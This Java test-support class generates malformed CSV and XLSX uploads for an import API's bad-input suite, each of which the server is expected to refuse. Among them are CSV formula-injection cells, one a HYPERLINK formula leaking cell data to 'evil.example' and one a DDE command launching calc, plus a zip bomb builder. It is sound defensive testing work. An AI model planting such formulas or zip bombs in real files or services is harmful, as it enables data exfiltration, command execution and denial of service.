package org.grassroots.itests.support;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The spoilt files of the bad-input suite for one import ({@link OpenApiUploads.Upload}): files without data, with the
 * wrong or missing columns, with unsafe, formula or overlong cells, too wide, in broken encodings, not spreadsheets at
 * all, damaged workbooks and a zip bomb. Each must be refused with a 4xx problem+json and store nothing. Built on the
 * import's own columns, so a file is refused for the spoilt part rather than for unknown columns where it can be.
 */
public final class BadFiles {
    /** One spoilt file: what it is, the format it is sent as, the bytes. */
    public record Case(OpenApiUploads.Upload upload, String kind, String format, byte[] body) {
        public String url() {
            return upload.url(format);
        }

        @Override
        public String toString() {
            String text = new String(body, 0, Math.min(body.length, 200), UTF_8);
            return upload.method() + " " + url() + " [" + kind + "] " + body.length + " bytes: " + text;
        }
    }

    private static final String XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    /** Unsafe cell texts, one file each: the same rules as for JSON text (controls, direction, invisible, zalgo). */
    private static final Map<String, String> UNSAFE = new LinkedHashMap<>();
    private static final byte[] ZIP_BOMB = zipBomb(100);

    static {
        UNSAFE.put("cell NUL", "张\u0000伟");
        UNSAFE.put("cell BEL", "张\u0007伟");
        UNSAFE.put("cell ESC", "\u001b[31m红");
        UNSAFE.put("cell RLO U+202E", "张\u202E伟");
        UNSAFE.put("cell isolate U+2066", "\u2066张伟");
        UNSAFE.put("cell zero-width only", "\u200B\u200B");
        UNSAFE.put("cell combining flood", "a" + "\u0301".repeat(60));
    }

    public static String contentType(String format) {
        return "XLSX".equals(format) ? XLSX_TYPE : "text/csv";
    }

    public List<Case> of(OpenApiUploads.Upload upload) {
        List<String> headers = upload.headers();
        List<Case> cases = new ArrayList<>();
        cases.add(new Case(upload, "header only", "CSV", csv(headers).getBytes(UTF_8)));
        cases.add(new Case(upload, "header only", "XLSX", xlsx(List.of(headers), false)));
        cases.add(new Case(upload, "wrong columns", "CSV", csv(List.of("甲", "乙", "丙"), List.of("1", "2", "3")).getBytes(UTF_8)));
        cases.add(new Case(upload, "missing columns", "CSV",
                csv(headers.subList(0, 1), List.of(headers.size() > 1 ? "1" : "=1")).getBytes(UTF_8)));
        cases.add(new Case(upload, "duplicate column", "CSV",
                csv(concat(headers, headers.get(0)), filled(headers.size() + 1, "1")).getBytes(UTF_8)));
        UNSAFE.forEach((kind, text) -> cases.add(new Case(upload, kind, "CSV",
                csv(headers, filled(headers.size(), text)).getBytes(UTF_8))));
        cases.add(new Case(upload, "cell RLO U+202E", "XLSX", xlsx(List.of(headers, filled(headers.size(), "张\u202E伟")), false)));
        cases.add(new Case(upload, "formula cells", "CSV", csv(headers, filled(headers.size(),
                "=HYPERLINK(\"http://evil.example/\"&A1,\"点我\")"), filled(headers.size(), "@SUM(1+1)*cmd|' /C calc'!A0"))
                .getBytes(UTF_8)));
        cases.add(new Case(upload, "formula cells", "XLSX", xlsx(List.of(headers, filled(headers.size(), "1+1")), true)));
        List<String> overlong = new ArrayList<>(filled(headers.size(), "1"));
        overlong.set(0, "长".repeat(40_000));
        cases.add(new Case(upload, "overlong cell", "CSV", csv(headers, overlong).getBytes(UTF_8)));
        List<String> wide = new ArrayList<>(headers);
        for (int i = wide.size(); i < 300; i++) {
            wide.add("列" + i);
        }
        cases.add(new Case(upload, "300 columns", "CSV", csv(wide, filled(300, "1")).getBytes(UTF_8)));
        cases.add(new Case(upload, "300 columns", "XLSX", xlsx(List.of(wide, filled(300, "1")), false)));
        cases.add(new Case(upload, "empty file", "CSV", new byte[0]));
        cases.add(new Case(upload, "empty file", "XLSX", new byte[0]));
        cases.add(new Case(upload, "PNG image", "XLSX", png()));
        cases.add(new Case(upload, "PNG image", "CSV", png()));
        cases.add(new Case(upload, "PDF", "CSV", "%PDF-1.7\n%âãÏÓ\n1 0 obj<<>>endobj\n".getBytes(UTF_8)));
        cases.add(new Case(upload, "old .xls", "XLSX", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0,
                (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1, 0, 0, 0, 0, 0, 0, 0, 0}));
        cases.add(new Case(upload, "CSV sent as XLSX", "XLSX", csv(headers, filled(headers.size(), "1")).getBytes(UTF_8)));
        cases.add(new Case(upload, "zip, not a workbook", "XLSX", zip(Map.of("readme.txt", "你好"))));
        byte[] whole = xlsx(List.of(headers, filled(headers.size(), "1")), false);
        cases.add(new Case(upload, "truncated workbook", "XLSX", java.util.Arrays.copyOf(whole, whole.length / 2)));
        cases.add(new Case(upload, "zip bomb 100 MB", "XLSX", ZIP_BOMB));
        cases.add(new Case(upload, "UTF-8 header, GBK row", "CSV", concat(csv(headers).getBytes(UTF_8),
                String.join(",", filled(headers.size(), "张伟")).getBytes(Charset.forName("GBK")))));
        cases.add(new Case(upload, "invalid UTF-8 and GBK", "CSV", concat(csv(headers).getBytes(UTF_8),
                new byte[] {(byte) 0xFF, (byte) 0xFE, (byte) 0x80, ',', (byte) 0xC3, '\r', '\n'})));
        cases.add(new Case(upload, "UTF-16", "CSV", csv(headers, filled(headers.size(), "1")).getBytes(Charset.forName("UTF-16"))));
        cases.add(new Case(upload, "unclosed quote", "CSV", (csv(headers) + "\"张伟," + "1,".repeat(headers.size())).getBytes(UTF_8)));
        return cases;
    }

    private static List<String> filled(int size, String value) {
        return Collections.nCopies(size, value);
    }

    private static List<String> concat(List<String> list, String more) {
        List<String> all = new ArrayList<>(list);
        all.add(more);
        return all;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] all = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }

    @SafeVarargs
    private static String csv(List<String>... rows) {
        StringBuilder text = new StringBuilder();
        for (List<String> row : rows) {
            List<String> cells = new ArrayList<>();
            for (String cell : row) {
                cells.add(cell.matches("(?s).*[,\"\r\n].*") ? '"' + cell.replace("\"", "\"\"") + '"' : cell);
            }
            text.append(String.join(",", cells)).append("\r\n");
        }
        return text.toString();
    }

    /** A minimal workbook of inline strings, or of formula cells after the header row when {@code formulas}. */
    static byte[] xlsx(List<List<String>> rows, boolean formulas) {
        StringBuilder sheet = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\""
                + "http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>");
        for (int r = 0; r < rows.size(); r++) {
            sheet.append("<row r=\"").append(r + 1).append("\">");
            for (int c = 0; c < rows.get(r).size(); c++) {
                String ref = column(c) + (r + 1);
                String text = escape(rows.get(r).get(c));
                sheet.append(formulas && r > 0 ? "<c r=\"" + ref + "\"><f>" + text + "</f><v>2</v></c>"
                        : "<c r=\"" + ref + "\" t=\"inlineStr\"><is><t>" + text + "</t></is></c>");
            }
            sheet.append("</row>");
        }
        sheet.append("</sheetData></worksheet>");
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
                + "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>");
        parts.put("_rels/.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>");
        parts.put("xl/workbook.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
                + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
        parts.put("xl/_rels/workbook.xml.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>");
        parts.put("xl/worksheets/sheet1.xml", sheet.toString());
        return zip(parts);
    }

    private static String column(int index) {
        StringBuilder name = new StringBuilder();
        for (int i = index + 1; i > 0; i = (i - 1) / 26) {
            name.insert(0, (char) ('A' + (i - 1) % 26));
        }
        return name.toString();
    }

    /** XML text; characters XML 1.0 cannot hold (NUL, ESC) are written as Excel does, {@code _x0000_}. */
    private static String escape(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            switch (c) {
                case '<' -> out.append("&lt;");
                case '>' -> out.append("&gt;");
                case '&' -> out.append("&amp;");
                case '"' -> out.append("&quot;");
                default -> out.append(c < 0x20 && c != '\t' && c != '\n' && c != '\r' ? String.format("_x%04X_", (int) c) : String.valueOf(c));
            }
        }
        return out.toString();
    }

    static byte[] zip(Map<String, String> parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue().getBytes(UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A workbook-shaped zip whose sheet inflates to {@code megabytes} of zeros. */
    public static byte[] zipBomb(int megabytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>".getBytes(UTF_8));
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < megabytes; i++) {
                zip.write(zeros);
            }
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] png() {
        byte[] png = new byte[64];
        byte[] signature = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'};
        System.arraycopy(signature, 0, png, 0, signature.length);
        return png;
    }
}
